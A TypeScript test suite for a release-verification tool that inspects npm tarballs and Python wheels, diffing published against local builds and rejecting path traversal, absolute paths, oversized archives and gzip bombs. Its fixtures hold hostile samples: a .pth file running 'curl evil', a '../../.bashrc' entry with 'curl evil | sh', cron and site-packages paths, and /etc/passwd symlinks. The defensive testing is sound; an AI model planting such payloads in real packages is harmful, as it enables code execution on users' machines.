import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  linkSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { after, describe, it } from 'node:test';
import { createGzip } from 'node:zlib';
import tar from 'tar-stream';
import {
  describeDiff,
  diffArchives,
  readArchive,
  sdistMetadata,
  wheelMetadata,
  type ArchiveEntry,
} from '../../src/release/archive.js';
import type { HttpClient } from '../../src/net/http.js';
import { verifyNpmRelease } from '../../src/release/npm.js';
import type { Exec } from '../../src/release/exec.js';
import type { TrustSource } from '../../src/release/provenance.js';

/** The Python that ships with the system: its zipfile, tarfile and (for real builds) setuptools and build. */
const PYTHON = '/usr/bin/python3';

function python(script: string, args: string[], input = ''): string {
  return execFileSync(PYTHON, ['-c', script, ...args], { input, encoding: 'utf8', stdio: ['pipe', 'pipe', 'inherit'] });
}

/** Where the archives of this file are written; removed at the end (some are megabytes). */
const root = mkdtempSync(join(tmpdir(), 'certwright-archive-'));
after(() => rmSync(root, { recursive: true, force: true }));

function scratch(): string {
  return mkdtempSync(join(root, 'case-'));
}

/** A stream's end, keeping what it is given. */
function into(chunks: Buffer[]): Writable {
  return new Writable({
    write(chunk: Buffer, _encoding, next) {
      chunks.push(chunk);
      next();
    },
  });
}

interface TarEntrySpec {
  readonly name: string;
  readonly content?: string;
  readonly type?: 'file' | 'directory' | 'symlink' | 'link' | 'fifo';
  readonly linkname?: string;
}

/** A .tgz written by tar-stream, as npm's node-tar would: ustar, pax headers for long names. */
async function tgz(entries: readonly TarEntrySpec[]): Promise<Buffer> {
  const pack = tar.pack();
  const chunks: Buffer[] = [];
  const done = pipeline(pack, createGzip(), into(chunks));
  for (const { name, content = '', type = 'file', linkname } of entries)
    pack.entry(
      { name, type, ...(linkname ? { linkname } : {}), mtime: new Date(Date.now() - Math.random() * 1e9) },
      content,
    );
  pack.finalize();
  await done;
  return Buffer.concat(chunks);
}

const ZIP = `
import json, sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as z:
    for e in json.load(sys.stdin):
        info = zipfile.ZipInfo(e["name"])
        info.compress_type = zipfile.ZIP_DEFLATED
        if e.get("symlink"):
            info.create_system = 3
            info.external_attr = 0o120777 << 16
        z.writestr(info, e.get("content", ""))
`;

/** A zip written by Python's zipfile, as wheel tools do. */
function zip(entries: readonly { name: string; content?: string; symlink?: boolean }[]): Buffer {
  const file = join(scratch(), 'out.zip');
  python(ZIP, [file], JSON.stringify(entries));
  return readFileSync(file);
}

const WHEEL = `
import base64, csv, hashlib, io, json, sys, zipfile
spec = json.load(sys.stdin)
record = io.StringIO()
writer = csv.writer(record, lineterminator="\\n")
for path, text in spec["files"].items():
    data = text.encode()
    writer.writerow([path, "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode(), len(data)])
for row in spec.get("rows", []):
    writer.writerow(row)
writer.writerow([spec["distInfo"] + "/RECORD", "", ""])
files = {**spec["files"], **spec.get("after", {}), spec["distInfo"] + "/RECORD": record.getvalue()}
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as z:
    for path, text in files.items():
        if text is not None:
            z.writestr(path, text)
`;

/**
 * A wheel whose RECORD Python writes as the wheel package does (csv, urlsafe base64 sha256
 * without padding); `after` then changes, adds or (with null) drops files behind RECORD's back.
 */
function wheel(
  files: Record<string, string>,
  after: Record<string, string | null> = {},
  rows: string[][] = [],
): Buffer {
  const file = join(scratch(), 'acme_site-1.2.3-py3-none-any.whl');
  python(WHEEL, [file], JSON.stringify({ distInfo: 'acme_site-1.2.3.dist-info', files, after, rows }));
  return readFileSync(file);
}

const METADATA = 'Metadata-Version: 2.1\nName: acme-site\nVersion: 1.2.3\nRequires-Python: >=3.9\n\nA site.\n';

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

function paths(entries: readonly ArchiveEntry[]): string[] {
  return entries.map((e) => `${e.path} ${e.type}`);
}

describe('readArchive', () => {
  it('reads an npm tarball as npm unpacks it: directories skipped, the top folder stripped, long names kept', async () => {
    const long = `lib/${'deep/'.repeat(30)}index.js`;
    const bytes = await tgz([
      { name: 'package/', type: 'directory' },
      { name: 'package/package.json', content: '{"name":"a","version":"1.0.0"}' },
      { name: `package/${long}`, content: 'module.exports = 1;\n' },
    ]);
    const entries = await readArchive('a-1.0.0.tgz', bytes, { stripTopDirectory: true });
    assert.deepEqual(paths(entries), [`${long} file`, 'package.json file']);
    assert.deepEqual(
      entries.map(({ path, size, sha256, content }) => ({ path, size, sha256, content: content.toString() })),
      [
        { path: long, size: 20, sha256: sha256('module.exports = 1;\n'), content: 'module.exports = 1;\n' },
        {
          path: 'package.json',
          size: 30,
          sha256: sha256('{"name":"a","version":"1.0.0"}'),
          content: '{"name":"a","version":"1.0.0"}',
        },
      ],
    );
    assert.deepEqual(
      paths(await readArchive('a-1.0.0.tgz', bytes)),
      [`package/${long} file`, 'package/package.json file'],
      'without stripping, an sdist keeps its <name>-<version>/ folder',
    );
  });

  it('reads what GNU tar writes: ./ dropped, symlinks and hard links listed with their target as content', async () => {
    const dir = scratch();
    mkdirSync(join(dir, 'pkg'));
    writeFileSync(join(dir, 'pkg', '__init__.py'), 'VALUE = 1\n');
    symlinkSync('/etc/passwd', join(dir, 'pkg', 'passwd'));
    linkSync(join(dir, 'pkg', '__init__.py'), join(dir, 'pkg', 'again.py'));
    const file = join(scratch(), 'pkg-1.0.tar.gz');
    execFileSync('tar', ['-C', dir, '--sort=name', '-czf', file, '.']);
    const entries = await readArchive('pkg-1.0.tar.gz', readFileSync(file));
    assert.deepEqual(
      entries.map(({ path, type, content }) => [path, type, content.toString()]),
      [
        ['pkg/__init__.py', 'file', 'VALUE = 1\n'],
        ['pkg/again.py', 'hardlink', './pkg/__init__.py'],
        ['pkg/passwd', 'symlink', '/etc/passwd'],
      ],
    );
  });

  it('reads a zip: directories skipped, a symlink listed with its target as content', async () => {
    const bytes = zip([
      { name: 'pkg/' },
      { name: 'pkg/__init__.py', content: 'VALUE = 1\n' },
      { name: 'pkg/link', content: '../../etc/passwd', symlink: true },
    ]);
    const entries = await readArchive('pkg-1.0-py3-none-any.whl', bytes);
    assert.deepEqual(
      entries.map(({ path, type, size, content }) => [path, type, size, content.toString()]),
      [
        ['pkg/__init__.py', 'file', 10, 'VALUE = 1\n'],
        ['pkg/link', 'symlink', 16, '../../etc/passwd'],
      ],
    );
  });

  it('refuses absolute paths, .. segments, devices and a path taken twice, naming them', async () => {
    const cases: [string, () => Promise<Buffer> | Buffer, string, boolean?][] = [
      [
        'a.tgz',
        () => tgz([{ name: 'package/../evil.js' }]),
        'archive: a.tgz has an entry with a .. segment: package/../evil.js',
      ],
      [
        'a.tgz',
        () => tgz([{ name: '/etc/cron.d/evil' }]),
        'archive: a.tgz has an entry with an absolute path: /etc/cron.d/evil',
      ],
      [
        'a.tgz',
        () => tgz([{ name: 'package/fifo', type: 'fifo' }]),
        'archive: a.tgz has a fifo at package/fifo; a release holds files, directories and links only',
      ],
      [
        'a.tgz',
        () =>
          tgz([
            { name: 'package/index.js', content: '1' },
            { name: 'package/index.js', content: '2' },
          ]),
        'archive: a.tgz has two entries at package/index.js; an unpacker keeps only one of them',
      ],
      [
        'a.tgz',
        () => tgz([{ name: 'package/index.js' }, { name: 'other/index.js' }]),
        'archive: a.tgz has two entries at index.js; an unpacker keeps only one of them',
        true,
      ],
      ['a.whl', () => zip([{ name: '../evil.pth' }]), 'archive: a.whl has an entry with a .. segment: ../evil.pth'],
      [
        'a.whl',
        () => zip([{ name: 'pkg\\..\\..\\evil.pth' }]),
        'archive: a.whl has an entry with a .. segment: pkg\\..\\..\\evil.pth',
      ],
      [
        'a.whl',
        () => zip([{ name: '/usr/lib/python3/evil.pth' }]),
        'archive: a.whl has an entry with an absolute path: /usr/lib/python3/evil.pth',
      ],
      ['a.whl', () => zip([{ name: 'C:/evil.pth' }]), 'archive: a.whl has an entry with an absolute path: C:/evil.pth'],
      [
        'a.whl',
        () => zip([{ name: 'pkg/x.py' }, { name: 'pkg/x.py' }]),
        'archive: a.whl has two entries at pkg/x.py; an unpacker keeps only one of them',
      ],
      ['a.whl', () => zip([{ name: 'pkg/../../' }]), 'archive: a.whl has an entry with a .. segment: pkg/../../'],
      ['a.tgz', () => tgz([{ name: '.', content: 'x' }]), 'archive: a.tgz has a file without a name: "."'],
    ];
    for (const [filename, build, message, stripTopDirectory] of cases) {
      await assert.rejects(readArchive(filename, await build(), { stripTopDirectory: stripTopDirectory ?? false }), {
        name: 'ArchiveError',
        message,
      });
    }
  });

  it('refuses more than 50000 entries, in a tarball and in a zip', async () => {
    const dir = scratch();
    const many =
      'import io, sys, tarfile, zipfile\nn = 50001\nwith tarfile.open(sys.argv[1] + "/many.tgz", "w:gz", compresslevel=1) as t:\n    for i in range(n): t.addfile(tarfile.TarInfo(f"package/f{i}"), io.BytesIO(b""))\nwith zipfile.ZipFile(sys.argv[1] + "/many.whl", "w") as z:\n    for i in range(n): z.writestr(f"f{i}", "")\n';
    python(many, [dir]);
    await assert.rejects(readArchive('many.tgz', readFileSync(join(dir, 'many.tgz'))), {
      message: 'archive: many.tgz has more than 50000 entries; refused as no release is this large',
    });
    await assert.rejects(readArchive('many.whl', readFileSync(join(dir, 'many.whl'))), {
      message: 'archive: many.whl has more than 50000 entries; refused as no release is this large',
    });
  });

  it('refuses more than 200 MiB uncompressed before inflating it, in a tarball and in a zip', async () => {
    const dir = scratch();
    // 200 MiB + 1 byte of zeros in one tar entry; three 70 MiB files in a zip (each under the bound, together over it).
    const big =
      'import sys, tarfile, zipfile\nclass Zeros:\n    def __init__(self, n): self.n = n\n    def read(self, k=-1):\n        k = self.n if k < 0 else min(k, self.n)\n        self.n -= k\n        return bytes(k)\ninfo = tarfile.TarInfo("package/big.bin")\ninfo.size = 200 * 1024 * 1024 + 1\nwith tarfile.open(sys.argv[1] + "/big.tgz", "w:gz", compresslevel=1) as t:\n    t.addfile(info, Zeros(info.size))\nwith zipfile.ZipFile(sys.argv[1] + "/big.whl", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:\n    for i in range(3): z.writestr(f"data{i}.bin", bytes(70 * 1024 * 1024))\n';
    python(big, [dir]);
    const started = Date.now();
    await assert.rejects(readArchive('big.tgz', readFileSync(join(dir, 'big.tgz'))), {
      message: 'archive: big.tgz holds more than 200 MiB uncompressed; refused as no release is this large',
    });
    await assert.rejects(readArchive('big.whl', readFileSync(join(dir, 'big.whl'))), {
      message: 'archive: big.whl holds more than 200 MiB uncompressed; refused as no release is this large',
    });
    assert.ok(Date.now() - started < 3_000, 'sizes are checked from headers, not by inflating');
  });

  it('stops inflating a tarball that is a gzip bomb of zeros after its end', async () => {
    const chunks: Buffer[] = [];
    const zeros = function* () {
      for (let i = 0; i < 401; i++) yield Buffer.alloc(1024 * 1024);
    };
    await pipeline(Readable.from(zeros()), createGzip({ level: 1 }), into(chunks));
    await assert.rejects(readArchive('bomb.tgz', Buffer.concat(chunks)), {
      message: 'archive: bomb.tgz inflates to more than 400 MiB; refused as no release is this large',
    });
  });

  it('says what it expected of a file that is no archive', async () => {
    const cases: [string, string][] = [
      ['a.tgz', 'archive: a.tgz is not a readable gzip-compressed tar (incorrect header check)'],
      [
        'a.whl',
        'archive: a.whl is not a readable zip (End of central directory record signature not found. Either not a zip file, or file is truncated.)',
      ],
      ['a.rpm', 'archive: cannot tell the format of a.rpm; expected a .tgz, .tar.gz, .whl or .zip'],
    ];
    for (const [filename, message] of cases)
      await assert.rejects(readArchive(filename, Buffer.from('not an archive')), { message });
    const truncated = await tgz([{ name: 'package/index.js', content: 'x'.repeat(5000) }]);
    await assert.rejects(readArchive('cut.tgz', truncated.subarray(0, truncated.length - 20)), {
      message: 'archive: cut.tgz is not a readable gzip-compressed tar (unexpected end of file)',
    });
  });
});

describe('diffArchives and describeDiff', () => {
  const files = { 'pkg/__init__.py': 'x'.repeat(412), 'pkg/x.py': 'a = 1\n', 'README.md': '# pkg\n' };

  it('two builds of the same files are identical, whatever their timestamps', async () => {
    const spec = Object.entries(files).map(([name, content]) => ({ name: `package/${name}`, content }));
    const [a, b] = [await tgz(spec), await tgz(spec)];
    assert.notDeepEqual(a, b, 'the tarballs differ in their bytes');
    const diff = diffArchives(
      await readArchive('a.tgz', a, { stripTopDirectory: true }),
      await readArchive('b.tgz', b, { stripTopDirectory: true }),
    );
    assert.deepEqual(diff, { added: [], removed: [], changed: [] });
    assert.equal(describeDiff(diff), '');
  });

  it('names a changed file with its sizes, an added .pth and a missing README', async () => {
    const local = await readArchive(
      'local.whl',
      zip(Object.entries(files).map(([name, content]) => ({ name, content }))),
    );
    const published = await readArchive(
      'published.whl',
      zip([
        { name: 'pkg/__init__.py', content: 'x'.repeat(398) },
        { name: 'pkg/x.py', content: 'a = 2\n' },
        { name: 'evil.pth', content: 'import os; os.system("curl evil")\n' },
      ]),
    );
    const diff = diffArchives(local, published);
    assert.deepEqual(diff, {
      added: ['evil.pth'],
      removed: ['README.md'],
      changed: [
        {
          path: 'pkg/__init__.py',
          local: { type: 'file', size: 412, sha256: sha256('x'.repeat(412)) },
          published: { type: 'file', size: 398, sha256: sha256('x'.repeat(398)) },
        },
        {
          path: 'pkg/x.py',
          local: { type: 'file', size: 6, sha256: sha256('a = 1\n') },
          published: { type: 'file', size: 6, sha256: sha256('a = 2\n') },
        },
      ],
    });
    assert.equal(
      describeDiff(diff),
      'added on the index: evil.pth; missing on the index: README.md; changed: pkg/__init__.py (412 → 398 bytes), pkg/x.py',
    );
    assert.equal(
      describeDiff(diff, 10, { remote: 'registry', sizes: false }),
      'added on the registry: evil.pth; missing on the registry: README.md; changed: pkg/__init__.py, pkg/x.py',
    );
  });

  it('a file that became a link is changed, even with the same bytes', async () => {
    const local = await readArchive('a.tgz', await tgz([{ name: 'package/config.js', content: '/etc/passwd' }]));
    const published = await readArchive(
      'b.tgz',
      await tgz([{ name: 'package/config.js', type: 'symlink', linkname: '/etc/passwd' }]),
    );
    assert.equal(describeDiff(diffArchives(local, published)), 'changed: package/config.js (file → symlink)');
  });

  it('cuts each list after max names', () => {
    const entry = (path: string) => ({ path, type: 'file' as const, size: 1, sha256: sha256(path) });
    const published = Array.from({ length: 13 }, (_, i) => entry(`f${String(i).padStart(2, '0')}.py`));
    assert.equal(
      describeDiff(diffArchives([], published), 3),
      'added on the index: f00.py, f01.py, f02.py and 10 more',
    );
    assert.equal(
      describeDiff(diffArchives(published, [])),
      'missing on the index: f00.py, f01.py, f02.py, f03.py, f04.py, f05.py, f06.py, f07.py, f08.py, f09.py and 3 more',
    );
  });
});

describe('wheelMetadata and sdistMetadata', () => {
  it('read what python -m build wrote: name, version, Requires-Python, a RECORD that matches', async () => {
    const project = scratch();
    writeFileSync(
      join(project, 'pyproject.toml'),
      '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "acme-site"\nversion = "1.2.3"\nrequires-python = ">=3.9"\n',
    );
    mkdirSync(join(project, 'src', 'acme_site'), { recursive: true });
    writeFileSync(join(project, 'src', 'acme_site', '__init__.py'), 'VALUE = 1\n');
    const out = join(project, 'dist');
    execFileSync(PYTHON, ['-m', 'build', '--no-isolation', '--outdir', out, project], {
      stdio: 'ignore',
      env: { PATH: process.env.PATH, HOME: project },
    });
    const built = readdirSync(out).sort();
    assert.deepEqual(built, ['acme-site-1.2.3.tar.gz', 'acme_site-1.2.3-py3-none-any.whl']);
    const wheelEntries = await readArchive(built[1] as string, readFileSync(join(out, built[1] as string)));
    const meta = wheelMetadata(wheelEntries);
    assert.deepEqual(
      { ...meta, record: meta.record.length },
      {
        name: 'acme-site',
        version: '1.2.3',
        requiresPython: '>=3.9',
        distInfo: 'acme_site-1.2.3.dist-info',
        record: wheelEntries.length,
        recordMismatches: [],
      },
    );
    const sdist = await readArchive(built[0] as string, readFileSync(join(out, built[0] as string)));
    assert.ok(
      sdist.some((e) => e.path.endsWith('.egg-info/PKG-INFO')),
      'setuptools writes a second PKG-INFO, under egg-info',
    );
    assert.deepEqual(sdistMetadata(sdist), {
      name: 'acme-site',
      version: '1.2.3',
      requiresPython: '>=3.9',
      root: 'acme-site-1.2.3',
    });
  });

  it('finds every file where the wheel and its RECORD disagree', async () => {
    const files = {
      'acme_site/__init__.py': 'VALUE = 1\n',
      'acme_site/data,1.txt': 'quoted in RECORD\n',
      'acme_site/gone.py': 'x = 1\n',
      'acme_site-1.2.3.dist-info/METADATA': METADATA,
    };
    const sound = wheelMetadata(await readArchive('a.whl', wheel(files)));
    assert.deepEqual(sound.recordMismatches, []);
    assert.ok(
      sound.record.some((r) => r.path === 'acme_site/data,1.txt'),
      'a quoted path with a comma is one path',
    );
    const tampered = await readArchive(
      'a.whl',
      wheel(files, { 'acme_site/__init__.py': 'VALUE = 2\n', 'evil.pth': 'import os\n', 'acme_site/gone.py': null }, [
        ['acme_site/old.py', 'md5=1B2M2Y8AsgTpgAmY7PhCfg', '0'],
      ]),
    );
    assert.deepEqual(wheelMetadata(tampered).recordMismatches, [
      'acme_site/__init__.py (sha256 differs: RECORD has 4T34xEr13qHkEkA5ELmcxaSPLMv2imazN01quc75_GU, the file PabEs1WASyZezvGd_llF_ieQqMw43J0FR_sWNMlMu-c)',
      'acme_site/gone.py (in RECORD, not in the wheel)',
      'acme_site/old.py (in RECORD, not in the wheel)',
      'evil.pth (not in RECORD)',
    ]);
    const weak = await readArchive(
      'a.whl',
      wheel(files, { 'acme_site/x.py': '' }, [['acme_site/x.py', 'md5=1B2M2Y8AsgTpgAmY7PhCfg', '0']]),
    );
    assert.deepEqual(wheelMetadata(weak).recordMismatches, [
      'acme_site/x.py (RECORD uses md5; expected sha256, sha384 or sha512)',
    ]);
    const resized = await readArchive(
      'a.whl',
      wheel(files, { 'acme_site/y.py': 'abc' }, [
        ['acme_site/y.py', 'sha256=ungWv48Bz-pBQUDeXa4iI7ADYaOWF3qctBD_YfIAFa0', '4'],
      ]),
    );
    assert.deepEqual(wheelMetadata(resized).recordMismatches, [
      'acme_site/y.py (size differs: RECORD has 4, the file 3 bytes)',
    ]);
  });

  it('say which metadata file is missing or incomplete', async () => {
    await assert.rejects(
      async () => wheelMetadata(await readArchive('a.whl', zip([{ name: 'acme_site/__init__.py' }]))),
      { message: 'wheel: expected one *.dist-info/METADATA, found none' },
    );
    await assert.rejects(
      async () =>
        wheelMetadata(await readArchive('a.whl', zip([{ name: 'a-1.dist-info/METADATA', content: METADATA }]))),
      { message: 'wheel: a-1.dist-info/RECORD is missing; every wheel lists its files there' },
    );
    await assert.rejects(
      async () =>
        sdistMetadata(
          await readArchive(
            'a.tar.gz',
            await tgz([{ name: 'a-1/PKG-INFO', content: 'Metadata-Version: 2.1\nName: a\n' }]),
          ),
        ),
      { message: 'sdist: a-1/PKG-INFO has no Version; expected core metadata with Name and Version' },
    );
    await assert.rejects(
      async () =>
        sdistMetadata(
          await readArchive('a.tar.gz', await tgz([{ name: 'a-1/src/a.egg-info/PKG-INFO', content: METADATA }])),
        ),
      { message: 'sdist: expected one <name>-<version>/PKG-INFO, found none' },
    );
  });
});

describe('verify-release with a tarball the reader refuses', () => {
  it('reports it as a failed files check beside the others, not a crash', async () => {
    const local = await tgz([{ name: 'package/package.json', content: '{"name":"a","version":"1.0.0"}' }]);
    const published = await tgz([
      { name: 'package/package.json', content: '{"name":"a","version":"1.0.0"}' },
      { name: 'package/../../.bashrc', content: 'curl evil | sh\n' },
    ]);
    // npm as the registry's client: `npm view` gives the manifest, `npm pack` writes what the registry serves.
    const exec: Exec = async (_command, args) => {
      if (args[0] === 'view')
        return {
          code: 0,
          stdout: JSON.stringify({
            name: 'a',
            version: '1.0.0',
            dist: { tarball: 'http://registry.test/a/-/a-1.0.0.tgz' },
          }),
          stderr: '',
        };
      const destination = args[args.indexOf('--pack-destination') + 1] as string;
      await writeFile(join(destination, 'a-1.0.0.tgz'), published);
      return { code: 0, stdout: JSON.stringify([{ filename: 'a-1.0.0.tgz' }]), stderr: '' };
    };
    const http: HttpClient = ({ url }) => Promise.resolve({ status: 404, headers: {}, body: Buffer.alloc(0), url });
    const refuse: TrustSource = () => Promise.reject(new Error('no provenance is asked for'));
    const report = await verifyNpmRelease(
      {
        name: 'a',
        version: '1.0.0',
        tarball: local,
        registry: 'http://registry.test',
        requireProvenance: false,
        expect: {},
        trust: refuse,
      },
      { exec, http, retry: { timeoutMs: 0, sleep: async () => {}, now: () => 0 } },
    );
    const result = report;
    assert.equal(result.verified, false);
    assert.deepEqual(
      result.checks.map((c) => [c.name, c.ok]),
      [
        ['published', true],
        ['integrity', false],
        ['tarball', false],
        ['files', false],
        ['package.json', false],
      ],
    );
    assert.equal(
      result.checks.find((c) => c.name === 'files')?.detail,
      "the registry's tarball is refused: archive: a-1.0.0.tgz has an entry with a .. segment: package/../../.bashrc",
    );
  });
});
